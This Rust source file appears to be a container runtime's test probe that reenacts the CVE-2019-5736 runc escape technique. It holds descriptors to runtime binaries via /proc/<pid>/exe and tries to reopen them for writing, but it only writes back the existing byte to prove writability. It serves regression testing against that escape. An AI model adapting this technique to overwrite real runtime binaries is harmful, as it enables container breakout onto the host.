//! `--hold-exe SECS`: the CVE-2019-5736 attacker that keeps what it grabs.
//!
//! For SECS seconds it scans /proc and opens `/proc/<pid>/exe` (O_PATH) of every runtime
//! process it sees before that process execs (comm starting with "berth" or "runc": a
//! waiting init, an exec'd process between clone and execve), keeping one fd per distinct
//! file. It prints `{"held":N,"denied":M}`, then waits (up to 120 s) for SIGUSR1, which the
//! test sends once no runtime process runs any more (the binary is then no longer busy).
//! Then, for each file held, it reopens it through /proc/self/fd/N for writing (O_WRONLY,
//! O_RDWR), and when that works writes back the byte already at offset 0 (the contents
//! never change), and prints `{"exe_hold":{"exes":[…]}}` with the file's device, inode,
//! link target and what each attempt gave.

use crate::json::{s, Json};
use std::collections::BTreeMap;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::{FileExt, MetadataExt};
use std::time::{Duration, Instant};

struct Held {
    fd: OwnedFd,
    comm: String,
}

fn comm_of(pid: &str) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/comm"))
        .map(|c| c.trim_end().to_string())
        .unwrap_or_default()
}

fn open_path(path: &str) -> Result<OwnedFd, i32> {
    let c = std::ffi::CString::new(path).map_err(|_| libc::EINVAL)?;
    // SAFETY: open with a NUL-terminated path; the fd returned is ours.
    let fd = unsafe { libc::open(c.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0));
    }
    // SAFETY: fd was just returned by open and is owned by nobody else.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn errno_name(e: i32) -> String {
    match e {
        libc::EROFS => "EROFS".into(),
        libc::ETXTBSY => "ETXTBSY".into(),
        libc::EACCES => "EACCES".into(),
        libc::EPERM => "EPERM".into(),
        libc::ENOENT => "ENOENT".into(),
        other => format!("errno {other}"),
    }
}

/// Blocks SIGUSR1 and waits for it, at most `limit`.
fn wait_for_usr1(limit: Duration) {
    // SAFETY: a sigset we initialise before use; sigprocmask and sigtimedwait only read
    // it and the timespec, and write into the siginfo we own.
    unsafe {
        let mut set: libc::sigset_t = std::mem::zeroed();
        libc::sigemptyset(&mut set);
        libc::sigaddset(&mut set, libc::SIGUSR1);
        libc::sigprocmask(libc::SIG_BLOCK, &set, std::ptr::null_mut());
        let ts = libc::timespec {
            tv_sec: limit.as_secs() as libc::time_t,
            tv_nsec: 0,
        };
        let mut info: libc::siginfo_t = std::mem::zeroed();
        libc::sigtimedwait(&set, &mut info, &ts);
    }
}

/// Tries to reopen the held file for writing (O_WRONLY, or O_RDWR when `read`), and to
/// write through it.
fn attempt(held: &Held, read: bool) -> Json {
    let path = format!("/proc/self/fd/{}", held.fd.as_raw_fd());
    match std::fs::OpenOptions::new()
        .read(read)
        .write(true)
        .open(&path)
    {
        Err(e) => Json::Obj(vec![
            ("opened".into(), Json::Bool(false)),
            ("error".into(), s(errno_name(e.raw_os_error().unwrap_or(0)))),
        ]),
        Ok(file) => {
            // Write back what is there: proves the file is writable without changing it.
            let mut byte = [0u8; 1];
            let reader = std::fs::File::open(&path).and_then(|r| r.read_at(&mut byte, 0));
            let written = match reader {
                Ok(1) => file.write_at(&byte, 0).map(|n| n == 1),
                Ok(_) => Ok(false),
                Err(e) => Err(e),
            };
            Json::Obj(vec![
                ("opened".into(), Json::Bool(true)),
                (
                    "written".into(),
                    Json::Bool(*written.as_ref().unwrap_or(&false)),
                ),
                (
                    "error".into(),
                    s(written
                        .err()
                        .map(|e| errno_name(e.raw_os_error().unwrap_or(0)))
                        .unwrap_or_default()),
                ),
            ])
        }
    }
}

/// Grabs for `secs` seconds, reports, waits for SIGUSR1, attacks, and returns the report.
pub fn hold_exe(secs: u64, emit: impl Fn(&Json)) -> Json {
    let me = std::process::id().to_string();
    let deadline = Instant::now() + Duration::from_secs(secs);
    let mut held: BTreeMap<(u64, u64), Held> = BTreeMap::new();
    let mut denied = 0u64;
    // Blocked before anything is reported, so that an early SIGUSR1 stays pending.
    // SAFETY: as in wait_for_usr1.
    unsafe {
        let mut set: libc::sigset_t = std::mem::zeroed();
        libc::sigemptyset(&mut set);
        libc::sigaddset(&mut set, libc::SIGUSR1);
        libc::sigprocmask(libc::SIG_BLOCK, &set, std::ptr::null_mut());
    }
    while Instant::now() < deadline {
        let Ok(dir) = std::fs::read_dir("/proc") else {
            break;
        };
        for entry in dir.flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if pid == me || !pid.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let comm = comm_of(&pid);
            if !(comm.starts_with("berth") || comm.starts_with("runc")) {
                continue;
            }
            match open_path(&format!("/proc/{pid}/exe")) {
                Ok(fd) => {
                    let file = std::fs::File::from(fd);
                    if let Ok(meta) = file.metadata() {
                        held.entry((meta.dev(), meta.ino())).or_insert(Held {
                            fd: OwnedFd::from(file),
                            comm,
                        });
                    }
                }
                Err(libc::EACCES) | Err(libc::EPERM) => denied += 1,
                Err(_) => {}
            }
        }
    }
    emit(&Json::Obj(vec![
        ("held".into(), Json::Int(held.len() as i128)),
        ("denied".into(), Json::Int(denied.into())),
    ]));
    wait_for_usr1(Duration::from_secs(120));
    let exes = held
        .iter()
        .map(|((dev, ino), h)| {
            let target = std::fs::read_link(format!("/proc/self/fd/{}", h.fd.as_raw_fd()))
                .map(|p| p.display().to_string())
                .unwrap_or_default();
            Json::Obj(vec![
                ("dev".into(), Json::Int((*dev).into())),
                ("ino".into(), Json::Int((*ino).into())),
                ("target".into(), s(target)),
                ("comm".into(), s(h.comm.clone())),
                ("wronly".into(), attempt(h, false)),
                ("rdwr".into(), attempt(h, true)),
            ])
        })
        .collect();
    Json::Obj(vec![(
        "exe_hold".into(),
        Json::Obj(vec![("exes".into(), Json::Arr(exes))]),
    )])
}
